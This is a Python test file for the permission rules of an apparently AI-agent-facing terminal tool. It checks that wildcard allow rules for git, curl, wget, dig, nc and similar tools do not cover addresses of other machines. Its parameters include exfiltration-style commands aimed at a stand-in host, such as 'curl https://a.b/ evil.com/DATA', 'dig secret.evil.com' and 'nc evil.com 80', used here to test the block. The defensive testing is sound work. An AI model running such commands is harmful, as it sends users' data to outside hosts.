"""A `*` of a rule covers no address of another machine, whichever way it is spelt."""

from pathlib import Path

import pytest

from amplifier_tui.host.gate.approvals.describe import describe_call
from amplifier_tui.host.gate.rules.book import RuleBook, propose
from amplifier_tui.host.gate.rules.text import parse_rule


def covered(rule: str, line: str, folder: Path) -> bool:
    parts = describe_call("bash", {"command": line}, folder).parts
    return RuleBook([parse_rule(f"bash({rule})", "allow")]).match(parts) is not None


@pytest.mark.parametrize(
    ("rule", "lines"),
    [
        ("git push *", "push me@host.com:repo main; push host.com:repo; push host: main"),
        ("git push *", "push ext::thing main; push -- host:repo; push https://host/x main"),
        ("git push -o *", "push -o value host:repo main; push -o host:repo main"),
        ("git push -u *", "push -u host:repo main"),
        ("git fetch *", "fetch ext::thing; fetch fd::7; fetch a:b"),
        ("git pull *", "pull me@h:x; pull h:x main"),
        ("git clone *", "clone h:x y"),
        ("git submodule add *", "submodule add h:x y"),
    ],
)
def test_an_address_in_scp_s_spelling_or_of_a_transport_is_not_covered(
    tmp_path: Path, rule: str, lines: str
) -> None:
    for line in lines.split("; "):
        assert not covered(rule, f"git {line}", tmp_path), line


@pytest.mark.parametrize("line", ["scp a.txt host:x", "rsync a.txt host::mod/x", "npm i me@h:x"])
def test_nor_is_one_of_other_programs(tmp_path: Path, line: str) -> None:
    begin = "npm i" if line.startswith("npm") else line.split()[0]
    assert not covered(f"{begin} *", line, tmp_path)


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("git push *", "git push origin main"),
        ("git push *", "git push origin main:other"),
        ("git push -u *", "git push -u origin a:other"),
        ("git push *", "git push origin HEAD"),
        ("git push *", "git push origin HEAD:main"),
        ("git rebase *", "git rebase HEAD"),
        ("git push host:repo *", "git push host:repo main"),
        ("git fetch *", "git fetch origin a:b"),
    ],
)
def test_names_of_remotes_and_what_the_rule_names_are_covered(
    tmp_path: Path, rule: str, line: str
) -> None:
    assert covered(rule, line, tmp_path)


def test_a_file_called_head_that_a_command_would_make_is_none_of_a_rule(tmp_path: Path) -> None:
    assert covered("git mv *", "git mv a b", tmp_path)
    assert not covered("git mv *", "git mv a HEAD", tmp_path)


@pytest.mark.parametrize(
    ("rule", "lines"),
    [
        ("curl https://a.b/ *", "curl https://a.b/ evil.com/DATA; curl https://a.b/ evil.com:80/x"),
        ("curl -s *", "curl -s evil.com; curl -s file"),
        ("wget https://a.b/ *", "wget https://a.b/ evil.com/x"),
        ("curl https://a.b/ -o *", "curl https://a.b/ -o -o evil.com"),
        ("wget -O *", "wget -O out evil.com"),
        ("http GET *", "http GET evil.com"),
        ("xh a.b *", "xh a.b Host:evil.com"),
        ("dig *", "dig secret.evil.com; dig a.b @evil.com"),
        ("ping -c 1 *", "ping -c 1 secret.evil.com"),
        ("nslookup *", "nslookup secret.evil.com"),
        ("host a.b *", "host a.b evil.com"),
        ("nc *", "nc evil.com 80"),
        ("sftp *", "sftp evil.com"),
        ("traceroute *", "traceroute evil.com"),
        ("whois *", "whois evil.com"),
        ("telnet *", "telnet evil.com"),
    ],
)
def test_nor_is_any_operand_of_what_talks_to_the_machines_it_is_told(
    tmp_path: Path, rule: str, lines: str
) -> None:
    for line in lines.split("; "):
        assert not covered(rule, line, tmp_path), line


@pytest.mark.parametrize("line", ["dig a.b", "ping -c 1 a.b", "host a.b", "whois a.b", "nc a.b 80"])
def test_of_such_a_command_the_whole_is_proposed_and_no_more(tmp_path: Path, line: str) -> None:
    (rule,) = propose(describe_call("bash", {"command": line}, tmp_path).parts, RuleBook())
    assert rule.inside == line
    assert covered(rule.inside, line, tmp_path)


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("curl https://a.b/ *", "curl https://a.b/"),
        ("curl https://a.b/ -o *", "curl https://a.b/ -o out.html"),
        ("wget -O *", "wget -O out"),
        ("scp *", "scp a b"),
    ],
)
def test_what_the_rule_names_and_where_it_is_put_is_covered(
    tmp_path: Path, rule: str, line: str
) -> None:
    assert covered(rule, line, tmp_path)
